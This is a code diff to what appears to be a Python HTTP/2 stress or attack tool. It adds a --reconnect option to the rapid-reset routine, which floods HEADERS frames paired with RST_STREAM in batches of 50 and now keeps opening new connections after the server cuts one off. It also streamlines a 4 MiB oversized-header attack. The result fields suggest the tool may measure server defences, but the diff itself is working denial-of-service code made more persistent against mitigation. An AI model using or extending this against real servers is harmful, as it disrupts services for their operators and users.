@@ -196,18 +196,36 @@ class Conn:
 
 
 def run_rapid_reset(a, c):
-    sid, sent, t_end = 1, 0, time.monotonic() + a.duration
+    """HEADERS then RST_STREAM at once, in a loop; with --reconnect, a new
+    connection each time the server cuts one, until --duration is over."""
+    sent, t_end = 0, time.monotonic() + a.duration
     block = request_block("GET", a.path)
-    while time.monotonic() < t_end and not c.cut_off():
-        batch = b""
-        for _ in range(50):
-            batch += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
-            batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
-            sid += 2
-        if not c.send(batch):
+    first, reconnects, refused = c, 0, 0
+    while time.monotonic() < t_end:
+        sid = 1
+        while time.monotonic() < t_end and not c.cut_off():
+            batch = b""
+            for _ in range(50):
+                batch += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
+                batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
+                sid += 2
+            if not c.send(batch):
+                break
+            sent += 50
+        if not a.reconnect or time.monotonic() >= t_end:
             break
-        sent += 50
-    return {"streams": sent}
+        time.sleep(0.05)
+        try:
+            c = Conn(a.host, a.port, a.source, timeout=5)
+            c.start_h2()
+            reconnects += 1
+            if c.closed:
+                refused += 1
+        except OSError:
+            refused += 1
+    res = {"streams": sent, "reconnects": reconnects, "refused": refused}
+    res.update({"goaway": first.goaway, "cut_off": first.cut_off()})
+    return res
 
 
 def run_continuation(a, c):
@@ -224,9 +242,8 @@ def run_continuation(a, c):
 
 def run_huge_headers(a, c):
     """One request whose header list is 4 MiB: many large literal fields."""
-    block = request_block("GET", "/health")
-    while len(block) < 4 << 20:
-        block += hp_literal("x-big", "b" * 8000)
+    field = hp_literal("x-big", "b" * 8000)
+    block = request_block("GET", "/health") + field * ((4 << 20) // len(field) + 1)
     pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
     sent = 0
     for i, p in enumerate(pieces):
@@ -438,6 +455,8 @@ def main():
     ap.add_argument("--epoch", type=int, default=1)
     ap.add_argument("--rate", type=float, default=200.0)
     ap.add_argument("--timeout", type=float, default=10.0)
+    ap.add_argument("--reconnect", action="store_true",
+                    help="rapid_reset: connect again after each cut until --duration is over")
     a = ap.parse_args()
     t0 = time.monotonic()
     if a.attack in OTHER:
@@ -451,7 +470,9 @@ def main():
         with c.lock:
             while not c.cut_off() and time.monotonic() < deadline:
                 c.lock.wait(0.1)
-        res.update({"cut_off": c.cut_off(), "goaway": c.goaway, "closed": c.closed,
+        res.setdefault("cut_off", c.cut_off())
+        res.setdefault("goaway", c.goaway)
+        res.update({"closed": c.closed,
                     "cut_after_s": round(((c.closed_at or time.monotonic()) - t0), 3)})
         c.close()
     res["attack"] = a.attack
